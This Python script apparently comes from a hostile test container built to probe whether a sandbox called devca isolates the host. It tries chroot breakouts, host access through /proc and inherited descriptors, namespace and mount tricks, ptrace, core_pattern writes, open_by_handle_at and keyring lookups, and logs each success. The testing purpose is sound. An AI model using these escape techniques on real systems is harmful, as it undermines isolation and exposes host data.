#!/usr/bin/env python3
"""A program of a hostile container image. It tries to reach the machine that devca runs on, and writes the results to
/loot: a line for each success, then "tried N"."""

import ctypes
import json
import os
import signal
import socket

libc = ctypes.CDLL(None, use_errno=True)
target = json.load(open("/target"))
loot = open("/loot", "a")
tried = 0


def attempt(name):
    """Runs the attack in a child process, which may change its root or die."""

    def run(attack):
        global tried
        tried += 1
        child = os.fork()
        if child == 0:
            try:
                os._exit(0 if attack() else 1)
            except BaseException:
                os._exit(1)
        _, status = os.waitpid(child, 0)
        if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
            loot.write(name + "\n")

    return run


def call(function, *arguments):
    if function(*arguments) != 0:
        raise OSError(ctypes.get_errno(), "refused")
    return True


def outside():
    """Whether the target exists, which is on the machine and not in the image."""
    return os.path.exists(target["file"])


@attempt("left the chroot")
def _():
    os.makedirs("/cell", exist_ok=True)
    os.chroot("/cell")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return outside()


@attempt("left the chroot through an open folder")
def _():
    top = os.open("/", os.O_RDONLY)
    os.makedirs("/cell", exist_ok=True)
    os.chroot("/cell")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return outside()


@attempt("read the machine's files through /proc/PID/root")
def _():
    names = ["1", "self", str(target["pid"])]
    return any(os.path.exists(f"/proc/{name}/root{target['file']}") for name in names)


@attempt("mounted a file system")
def _():
    return call(libc.mount, b"none", b"/mnt", b"tmpfs", 0, None)


@attempt("mounted /proc anew")
def _():
    return call(libc.mount, b"proc", b"/mnt", b"proc", 0, None)


@attempt("unmounted what hides the kernel's settings")
def _():
    return call(libc.umount2, b"/proc", 2)


@attempt("allowed devices in the tree")
def _():
    return call(libc.mount, b"none", b"/", None, 32 | 4096, None)


@attempt("made a mount namespace")
def _():
    return call(libc.unshare, 0x00020000)


@attempt("made a user namespace")
def _():
    return call(libc.unshare, 0x10000000)


@attempt("entered a namespace of the machine's")
def _():
    return call(libc.setns, os.open(f"/proc/{target['pid']}/ns/mnt", os.O_RDONLY), 0)


@attempt("made a device")
def _():
    os.mknod("/disk", 0o20600, os.makedev(1, 1))
    return True


@attempt("opened a device that the image brought along")
def _():
    os.open("/device", os.O_RDONLY)
    return True


@attempt("signaled a process of the machine's")
def _():
    os.kill(target["pid"], signal.SIGUSR1)
    return True


@attempt("traced a process of the machine's")
def _():
    return call(libc.ptrace, 16, target["pid"], None, None)


@attempt("connected to a server of the machine's")
def _():
    socket.create_connection(("127.0.0.1", target["port"]), timeout=2)
    return True


@attempt("connected to an abstract socket of the machine's")
def _():
    client = socket.socket(socket.AF_UNIX)
    client.connect("\0" + target["socket"])
    return True


@attempt("changed a setting of the kernel's")
def _():
    path = "/proc/sys/kernel/core_pattern"
    value = open(path).read()
    open(path, "w").write(value)
    return True


@attempt("renamed the machine")
def _():
    name = socket.gethostname().encode()
    call(libc.sethostname, name, len(name))
    return os.stat("/proc/self/ns/uts").st_ino == target["uts"]


@attempt("opened a file by its handle")
def _():
    handle = (ctypes.c_ubyte * 16)(8, 0, 0, 0, 1, 0, 0, 0, 2)
    descriptor = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, 0)
    return descriptor >= 0


@attempt("loaded a module, or asked the kernel to")
def _():
    libc.syscall(175, b"", 0, b"")
    return ctypes.get_errno() not in (1, 38)


@attempt("typed into the terminal")
def _():
    os.open("/dev/tty", os.O_RDWR)
    return True


@attempt("reached the machine's files through a file that was open")
def _():
    return any(os.path.exists(f"/proc/self/fd/{number}{target['file']}") or inherited(number) for number in range(3, 256))


def inherited(number):
    try:
        os.stat(target["file"].lstrip("/"), dir_fd=number)
        return True
    except OSError:
        return False


@attempt("found a key of the login session")
def _():
    KEYCTL_SEARCH, SESSION_KEYRING = 10, -3
    return libc.syscall(250, KEYCTL_SEARCH, SESSION_KEYRING, b"user", target["key"].encode(), 0) >= 0


loot.write(f"tried {tried}\n")
